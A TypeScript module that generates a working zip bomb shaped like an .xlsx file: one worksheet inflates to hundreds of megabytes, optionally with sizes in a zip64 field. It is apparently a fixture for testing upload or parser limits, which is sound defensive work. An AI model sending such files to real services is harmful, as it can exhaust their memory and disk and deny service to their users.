/**
 * A zip bomb shaped like an .xlsx: a few small workbook parts and one worksheet that unpacks to
 * hundreds of megabytes of spaces but is about a thousand times smaller packed. Built without
 * ever holding the unpacked sheet in memory: a megabyte of spaces is deflated once and the
 * compressed piece repeated (each piece is flushed to a byte boundary and refers back only to
 * spaces, so the repeats form one valid deflate stream).
 */
import zlib from "node:zlib";

const MB = 1024 * 1024;
const HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
const FOOT = "</sheetData></worksheet>";
const SMALL_PARTS: Record<string, string> = {
  "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>',
};

type Part = { name: string; packed: Buffer; size: number; crc: number };

/** The bomb's bytes; its worksheet unpacks to about `sheetMb` MB. With `zip64`, the sheet's size is written in a zip64 field. */
export function zipBomb({ sheetMb = 400, zip64 = false }: { sheetMb?: number; zip64?: boolean } = {}): Uint8Array {
  const parts: Part[] = Object.entries(SMALL_PARTS).map(([name, text]) => {
    const data = Buffer.from(text);
    return { name, packed: zlib.deflateRawSync(data), size: data.length, crc: zlib.crc32(data) };
  });
  parts.push(bombSheet(sheetMb));
  return writeZip(parts, zip64);
}

function bombSheet(sheetMb: number): Part {
  const spaces = Buffer.alloc(MB, 0x20);
  const head = Buffer.from(HEAD);
  const foot = Buffer.from(FOOT);
  const sync = { finishFlush: zlib.constants.Z_SYNC_FLUSH };
  const piece = zlib.deflateRawSync(spaces, { ...sync, level: 9 });
  let crc = zlib.crc32(head);
  for (let i = 0; i < sheetMb; i++) crc = zlib.crc32(spaces, crc);
  crc = zlib.crc32(foot, crc);
  const packed = Buffer.concat([zlib.deflateRawSync(head, sync), ...Array.from({ length: sheetMb }, () => piece), zlib.deflateRawSync(foot)]);
  return { name: "xl/worksheets/sheet1.xml", packed, size: head.length + sheetMb * MB + foot.length, crc };
}

function writeZip(parts: Part[], zip64: boolean): Uint8Array {
  const out: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name);
    const wide = zip64 && part.name.includes("worksheets");
    const extra = Buffer.alloc(wide ? 20 : 0);
    if (wide) {
      extra.writeUInt16LE(1, 0);
      extra.writeUInt16LE(16, 2);
      extra.writeBigUInt64LE(BigInt(part.size), 4);
      extra.writeBigUInt64LE(BigInt(part.packed.length), 12);
    }
    const local = header(0x04034b50, 30, part, wide);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(extra.length, 28);
    const entry = header(0x02014b50, 46, part, wide);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt16LE(extra.length, 30);
    entry.writeUInt32LE(offset, 42);
    out.push(local, name, extra, part.packed);
    central.push(entry, name, extra);
    offset += local.length + name.length + extra.length + part.packed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...out, directory, end]));
}

// A local (30-byte) or central (46-byte) header; the central one has its fields 2 bytes later.
function header(signature: number, length: number, part: Part, wide: boolean): Buffer {
  const b = Buffer.alloc(length);
  const at = length === 46 ? 2 : 0;
  b.writeUInt32LE(signature, 0);
  if (at) b.writeUInt16LE(45, 4);
  b.writeUInt16LE(wide ? 45 : 20, 4 + at);
  b.writeUInt16LE(8, 8 + at); // deflate
  b.writeUInt32LE(part.crc, 14 + at);
  b.writeUInt32LE(wide ? 0xffffffff : part.packed.length, 18 + at);
  b.writeUInt32LE(wide ? 0xffffffff : part.size, 22 + at);
  return b;
}
